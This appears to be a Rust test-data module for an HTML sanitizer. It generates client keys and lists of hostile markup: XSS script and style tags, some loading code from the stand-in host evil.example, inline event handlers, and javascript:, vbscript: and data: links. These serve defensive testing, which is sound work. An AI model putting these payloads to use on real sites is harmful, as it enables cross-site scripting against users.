// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Test data generators: client keys and hostile markup.

use std::net::{IpAddr, Ipv4Addr};

/// Generate a pool of client keys (IPv4 strings in 10.0.0.0/8).
pub fn generate_client_keys(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c)).to_string()
        })
        .collect()
}

/// Script and style payloads whose content must vanish entirely.
pub fn generate_block_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert('xss')</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script type=\"text/javascript\">\nfetch('/steal')\n</script>",
        "<ScRiPt>document.write('x')</sCrIpT>",
        "<style>body { background: url(javascript:alert(1)) }</style>",
        "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
    ]
}

/// Markup carrying inline event handlers.
pub fn generate_event_handler_payloads() -> Vec<&'static str> {
    vec![
        "<img src=x onerror=alert(1)>",
        "<b onmouseover=\"alert(1)\">hover</b>",
        "<p ONCLICK='steal()'>click</p>",
        "<svg onload=alert(1)>",
        "<a href=\"https://ok.example\" onfocus = \"x()\">link</a>",
        "<span\tonpointerenter='x'>tab</span>",
        "<body onload=init()>page</body>",
    ]
}

/// Anchors whose targets must be neutralized to `#`.
pub fn generate_unsafe_links() -> Vec<&'static str> {
    vec![
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"//evil.example/\">x</a>",
        "<a href=\"ftp://files.example/\">x</a>",
        "<a href=\"/local/path\">x</a>",
        "<a name=\"anchor\">x</a>",
    ]
}

/// Ordinary rich-text comments as the letters editor produces them.
pub fn generate_benign_comments() -> Vec<&'static str> {
    vec![
        "<p>Thanks for the letter!</p>",
        "<p>I <strong>really</strong> liked <em>this</em> part.</p>",
        "<ul><li>one</li><li>two</li></ul>",
        "<blockquote>quoted</blockquote><p>reply</p>",
        "<pre><code>let x = 1;</code></pre>",
        "<h2>Heading</h2><h3>Sub</h3><p>body<br>more</p>",
        "<p>See <a href=\"https://example.com/post\">this post</a>.</p>",
    ]
}
